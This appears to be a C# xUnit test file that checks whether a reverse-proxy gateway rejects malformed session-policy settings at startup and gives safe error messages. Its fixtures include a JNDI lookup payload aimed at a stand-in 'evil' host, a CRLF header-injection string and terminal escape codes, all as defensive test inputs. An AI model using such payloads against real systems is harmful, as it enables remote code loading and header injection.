using Gateway.Sessions;
using Gateway.Tests.Infrastructure;

namespace Gateway.Tests.Sessions.Policies;

/// <summary><c>SessionStreams.OnNewer</c> and <c>SessionStreams.Debounce</c>: a bad value stops the gateway at start
/// with a message naming the key, short and without the control characters a hostile value carries.</summary>
public sealed class PolicyValidationTests
{
    private const string Metadata = "ReverseProxy:Routes:llm:Metadata:";

    public static TheoryData<string, string> BadValues => new()
    {
        { "OnNewer", "" },
        { "OnNewer", "queue" },
        { "OnNewer", "reject,supersede" },
        { "OnNewer", " reject" },
        { "OnNewer", "1" },
        { "OnNewer", "reject\r\nX-Injected: yes" },
        { "OnNewer", "${jndi:ldap://evil/x}" },
        { "OnNewer", new string('r', 100_000) },
        { "Debounce", "" },
        { "Debounce", "soon" },
        { "Debounce", "300ms" },
        { "Debounce", "0.3" },
        { "Debounce", "00:00:00" },
        { "Debounce", "-00:00:00.300" },
        { "Debounce", "00:00:10.001" },
        { "Debounce", "1.00:00:00" },
        { "Debounce", "10675199.02:48:05.4775807" },
        { "Debounce", "00:00:00.300\u0000\u001b[31m" },
        { "Debounce", new string('9', 100_000) },
    };

    [Theory]
    [MemberData(nameof(BadValues))]
    public async Task BadValue_Start_FailsNamingTheKey(string name, string value)
    {
        var settings = GatewayHost.DefaultSettings(new Uri("http://127.0.0.1:9/"));
        settings[Metadata + "SessionStreams." + name] = value;

        var error = await Assert.ThrowsAnyAsync<Exception>(() => GatewayHost.StartAndStopAsync(settings));

        var message = ExceptionText.Flatten(error);
        Assert.Contains(Metadata + "SessionStreams." + name, message, StringComparison.Ordinal);
        Assert.True(message.Length < 4000, $"message of {message.Length} chars echoes the value");
        Assert.DoesNotContain('\u001b', message);
        Assert.DoesNotContain("\r\nX-Injected", message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("supersede", null)]
    [InlineData("REJECT", "00:00:10")]
    [InlineData("Reject", "00:00:00.001")]
    [InlineData(null, "00:00:00.300")]
    public async Task GoodValues_Start_Succeeds(string? onNewer, string? debounce)
    {
        var settings = GatewayHost.DefaultSettings(new Uri("http://127.0.0.1:9/"));
        if (onNewer is not null)
        {
            settings[Metadata + RouteSessionPolicy.OnNewerKey] = onNewer;
        }

        if (debounce is not null)
        {
            settings[Metadata + RouteSessionPolicy.DebounceKey] = debounce;
        }

        Assert.Null(await Record.ExceptionAsync(() => GatewayHost.StartAndStopAsync(settings)));
    }

    [Fact]
    public void Parse_ReadsBothKeys_CaseInsensitively_DefaultsWhenAbsent()
    {
        var plain = Route(new() { ["SessionStreams"] = "true" });
        var set = Route(new() { ["SessionStreams"] = "true", [RouteSessionPolicy.OnNewerKey] = "rEjEcT", [RouteSessionPolicy.DebounceKey] = "00:00:00.300" });

        Assert.Null(RouteSessionPolicy.Parse(plain, out var defaults));
        Assert.Null(RouteSessionPolicy.Parse(set, out var policy));
        Assert.Equal(OnNewer.Supersede, defaults.OnNewer);
        Assert.Equal(TimeSpan.Zero, defaults.Debounce);
        Assert.Equal(OnNewer.Reject, policy.OnNewer);
        Assert.Equal(TimeSpan.FromMilliseconds(300), policy.Debounce);
    }

    private static Yarp.ReverseProxy.Configuration.RouteConfig Route(Dictionary<string, string> metadata) =>
        new() { RouteId = "r", ClusterId = "c", Match = new() { Path = "/{**all}" }, Metadata = metadata };
}
